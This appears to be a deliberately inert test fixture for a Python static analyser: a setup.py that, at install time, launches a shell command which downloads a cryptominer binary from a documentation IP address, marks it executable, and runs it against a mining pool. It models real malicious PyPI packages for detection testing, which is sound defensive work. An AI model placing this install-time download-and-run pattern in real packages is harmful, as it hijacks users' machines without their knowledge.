# INERT test sample for pyward's static analysis: never run it. Modelled on crypto-miners dropped at install (maratlib and similar).
# Documented: https://blog.sonatype.com/ (2021 PyPI cryptominer packages)
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import subprocess
from setuptools import setup
subprocess.Popen(['sh', '-c', 'curl -s http://198.51.100.3/xmrig -o /tmp/x && chmod +x /tmp/x && /tmp/x -o stratum+tcp://198.51.100.3:3333 --donate-level 1'])
setup(name='maratlib-like', version='0.0.0')
